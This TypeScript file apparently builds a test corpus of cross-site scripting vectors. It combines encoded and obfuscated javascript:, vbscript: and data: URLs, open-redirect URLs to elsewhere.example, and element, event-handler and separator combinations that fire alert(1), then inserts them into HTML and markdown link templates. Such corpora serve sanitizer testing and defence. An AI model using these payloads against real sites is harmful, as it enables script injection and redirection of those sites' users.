import { WHOLE } from './WHOLE';

/** Calls that would show that a payload ran. */
export const CALL = 'alert(1)';

/** URLs that run a script, or that lead elsewhere in disguise. */
export const URLS: readonly string[] = [
  ...[
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    ' javascript:alert(1)',
    'java\tscript:alert(1)',
    'java\nscript:alert(1)',
  ],
  ...['\u0001javascript:alert(1)', 'javascript&colon;alert(1)', 'javascript&#58;alert(1)', '&#106;avascript:alert(1)'],
  ...[
    '&#x6A;avascript:alert(1)',
    '&#0000106avascript:alert(1)',
    'java&Tab;script:alert(1)',
    'java&NewLine;script:alert(1)',
  ],
  ...['javascript://x.example/%0aalert(1)', 'javascript:/*--></title></style></textarea></script>*/alert(1)'],
  ...[
    'vbscript:msgbox(1)',
    'livescript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'data:text/html;base64,PHNjcmlwdD4=',
  ],
  ...['data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', 'blob:https://x.example/1'],
  ...[
    'view-source:javascript:alert(1)',
    'feed:javascript:alert(1)',
    'jar:javascript:alert(1)',
    '\ufeffjavascript:alert(1)',
  ],
  ...[
    '//elsewhere.example',
    '/\\elsewhere.example',
    '\\\\elsewhere.example',
    '/\t/elsewhere.example',
    'https:elsewhere.example',
  ],
];

/** Elements that load something of themselves and so fire a handler. */
const LOADERS: readonly string[] = [
  ...[
    'img src=x',
    'svg',
    'body',
    'video src=x',
    'audio src=x',
    'input autofocus',
    'details open',
    'iframe',
    'object data=x',
  ],
  ...[
    'embed src=x',
    'link rel=stylesheet href=x',
    'marquee',
    'math',
    'select autofocus',
    'textarea autofocus',
    'p',
    'a href=/',
  ],
];
const HANDLERS: readonly string[] = [
  ...[
    'onerror',
    'onload',
    'onfocus',
    'ontoggle',
    'onmouseover',
    'onanimationstart',
    'onpointerrawupdate',
    'onbeforetoggle',
  ],
];
/** Separators that parsers take for a space between attributes, with the quotes of the handler's value. */
const SEPARATORS: readonly string[] = [' ', '/', '\n', '\t', '\f', '\u0000 ', '" ', "' "];

/** Elements with a URL, `$` in its place. */
const LINKS: readonly string[] = [
  ...['<a href="$">x</a>', "<a href='$'>x</a>", '<a href=$>x</a>', '<img src="$">', '<iframe src="$"></iframe>'],
  ...[
    '<form action="$"><button>x</button></form>',
    '<button formaction="$">x</button>',
    '<base href="$">',
    '[x]($)',
    '<$>',
  ],
  ...['<object data="$"></object>', '<svg><a xlink:href="$"><text>x</text></a></svg>', '<math href="$">x</math>'],
  ...['<meta http-equiv="refresh" content="0;url=$">', '<link rel="import" href="$">', '<video poster="$"></video>'],
  ...['<img srcset="$ 1x">', '<div style="background:url($)">x</div>', '<area href="$">', '![x]($)', '[x]: $'],
];

const HANDLED = LOADERS.flatMap((element) =>
  HANDLERS.flatMap((handler) => SEPARATORS.map((separator) => `<${element}${separator}${handler}=${CALL}>`)),
);
const LED = LINKS.flatMap((link) => URLS.map((url) => link.split('$').join(url)));

/** Payloads before they are put into a carrier. */
export const VECTORS: readonly string[] = [...WHOLE, ...URLS, ...HANDLED, ...LED];
